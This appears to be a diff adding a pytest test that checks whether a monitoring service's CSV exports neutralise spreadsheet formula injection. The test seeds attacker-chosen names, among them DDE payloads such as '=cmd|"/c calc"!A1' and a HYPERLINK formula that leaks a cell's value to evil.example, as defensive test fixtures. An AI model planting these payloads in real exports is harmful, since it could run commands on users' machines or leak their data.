@@ -1,0 +1,182 @@
+# ruff: noqa: F811 - pytest fixtures imported from the dashboards conftest are parameters here
+"""Every CSV the service answers, through the real app, with data an attacker chose: a release named
+``=cmd|"/c calc"!A1``, a page named like a HYPERLINK formula, a resource URL starting with ``@``, an event
+message starting with ``=``, a budget scope starting with ``=``. No cell of any download starts with a formula
+character unless it is a number (numbers stay numbers); the attacker's names come out prefixed with ``'``.
+
+The routes are found by walking the app (every route with a ``format`` query parameter or a ``{fmt}`` path
+part), so a new CSV route that this test does not request fails it."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from fastapi.routing import iter_route_contexts
+from fastapi.testclient import TestClient
+
+from stacklens.control.db import session_scope
+from stacklens.control.models import Budget
+from stacklens.csv_cells import FORMULA_STARTS
+from stacklens.performance.exports.tables import PAGES
+from stacklens.performance.views import VIEWS
+from stacklens.settings import Settings
+from stacklens.warehouse.client import get_warehouse
+from tests.dashboards.conftest import org_factory, sign_in, stores  # noqa: F401 - shared fixtures
+from tests.dashboards.landing import land, sdk_event
+from tests.dashboards.test_performance_exports import CASES
+from tests.stacklens.performance.perf_seed import NOW, seed
+
+RELEASE = '=cmd|"/c calc"!A1'
+PAGE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+RESOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
+MESSAGE = "=2+5+cmd|' /C calc'!A0"
+SCOPE = "-1+1+cmd|' /C calc'!A0"
+WINDOW = {"since": "2026-11-06T12:00:00Z", "until": NOW.isoformat().replace("+00:00", "Z")}
+# Renamed in the seeded rows: (column, value in the seed) -> the attacker's value.
+RENAMES = {
+    ("release", "shop@1.1.0"): RELEASE,
+    ("page", "/"): PAGE,
+    ("transaction", "/"): PAGE,
+    ("description", "https://shop.test/img/hero.png"): RESOURCE,
+}
+
+
+class Renaming:
+    """A warehouse client that stores the seed's rows with the attacker's names (everything else passes)."""
+
+    def __init__(self, client: Any) -> None:
+        self.client = client
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self.client, name)
+
+    def insert(self, table: str, rows: list[list[Any]], column_names: list[str]) -> Any:
+        renamed = [
+            [
+                RENAMES.get((c, v), v) if isinstance(v, str) else v
+                for c, v in zip(column_names, row, strict=True)
+            ]
+            for row in rows
+        ]
+        return self.client.insert(table, renamed, column_names=column_names)
+
+
+def _raise() -> None:
+    raise ValueError(MESSAGE)
+
+
+@pytest.fixture
+def web(stores: Settings) -> Iterator[TestClient]:
+    from stacklens.cli.app import build_app
+
+    with TestClient(build_app(stores)) as test_client:
+        yield test_client
+
+
+def csv_routes(app: Any) -> set[str]:
+    """Every route that can answer CSV: a ``format`` query parameter or a ``{fmt}`` path part."""
+    found = set()
+    for route in iter_route_contexts(app.routes):
+        dependant = getattr(route, "dependant", None)
+        if dependant is None:
+            continue
+        queries = {p.name for p in dependant.query_params}
+        paths = {p.name for p in dependant.path_params}
+        if "format" in queries or "fmt" in paths:
+            found.add(route.path_format)
+    return found
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_no_csv_route_writes_a_formula(web: TestClient, org_factory, stores: Settings) -> None:
+    org = org_factory("Acme")
+    seeded = seed(Renaming(get_warehouse(stores)), org["org_id"], org["project_id"], loads=120)
+    (event,) = land(org["org_id"], org["project_id"], [sdk_event(_raise, tags={"note": MESSAGE})])
+    pageload = next(t["event_id"] for t in seeded.transactions if t["op"] == "pageload")
+    with session_scope(stores) as session:
+        for scope in (SCOPE, "*"):  # SCOPE: no form accepts it, as a hand-edited row could hold it
+            session.add(
+                Budget(
+                    org_id=org["org_id"],
+                    project_id=org["project_id"],
+                    metric="load_time_ms",
+                    scope=scope,
+                    value=1,
+                    min_samples=1,
+                )
+            )
+    sign_in(web, org["email"])
+    api = {"Authorization": f"Bearer {org['api_key']}"}
+    perf = f"/orgs/{org['org_slug']}/projects/{org['project']}/performance"
+
+    # (route template, URL, headers): every CSV the app can answer for this project.
+    requests: list[tuple[str, str, dict[str, str]]] = []
+    for view in VIEWS:
+        route = f"/api/projects/{{slug}}/performance/{view}"
+        requests.append((route, f"/api/projects/{org['project']}/performance/{view}", api))
+    requests.append(("/api/projects/{slug}/budgets", f"/api/projects/{org['project']}/budgets", api))
+    for page, _, params, _, _ in CASES:
+        for spec in PAGES[page]:
+            query = "&".join(f"{k}={v}" for k, v in {**params, "table": spec.name}.items())
+            route = "/orgs/{org_slug}/projects/{project_slug}/performance/export/{page_name}.{fmt}"
+            requests.append((route, f"{perf}/export/{page}.csv?{query}", {}))
+    requests.append(
+        (
+            "/orgs/{org_slug}/projects/{project_slug}/performance/budgets/export.{fmt}",
+            f"{perf}/budgets/export.csv",
+            {},
+        )
+    )
+    requests.append(
+        (
+            "/orgs/{org_slug}/projects/{project_slug}/performance/waterfall/{event_id}/export.{fmt}",
+            f"{perf}/waterfall/{pageload}/export.csv",
+            {},
+        )
+    )
+    requests.append(
+        (
+            "/orgs/{org_slug}/projects/{project_slug}/issues/{issue_id}/events/{event_id}.{fmt}",
+            f"/orgs/{org['org_slug']}/projects/{org['project']}/issues/{event['issue_id']}/events/"
+            f"{event['event_id']}.csv",
+            {},
+        )
+    )
+    assert {route for route, _, _ in requests} == csv_routes(web.app), "a CSV route this test does not walk"
+
+    seen: dict[str, int] = {}
+    for _, url, headers in requests:
+        if url.startswith("/api/") and "?" not in url:
+            url += "?" + "&".join(f"{k}={v}" for k, v in {**WINDOW, "format": "csv"}.items())
+        elif "/export/" in url:
+            url += "&" + "&".join(f"{k}={v}" for k, v in WINDOW.items())
+        answer = web.get(url, headers=headers)
+        assert answer.status_code == 200, (url, answer.text[:300])
+        assert answer.headers["content-type"].startswith("text/csv"), url
+        for cell in _cells(answer.text):
+            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (url, cell)
+            for name in (RELEASE, PAGE, RESOURCE, MESSAGE, SCOPE):
+                if cell.startswith("'" + name):  # the name itself, or the start of a cell (an event's value)
+                    seen[name] = seen.get(name, 0) + 1
+    # The attacker's names did come out (neutralised), so the walk above checked real cells.
+    assert set(seen) == {RELEASE, PAGE, RESOURCE, MESSAGE, SCOPE}, seen
+    # Numbers stay numbers: the budget over its limit has a negative margin, written as a number, not text.
+    budgets = list(csv.DictReader(io.StringIO(web.get(f"{perf}/budgets/export.csv").text)))
+    margins = {b["scope"]: b["margin"] for b in budgets}
+    assert margins["*"].startswith("-") and float(margins["*"]) < 0
+    assert margins["'" + SCOPE] == ""  # no page matches it: no value, no margin
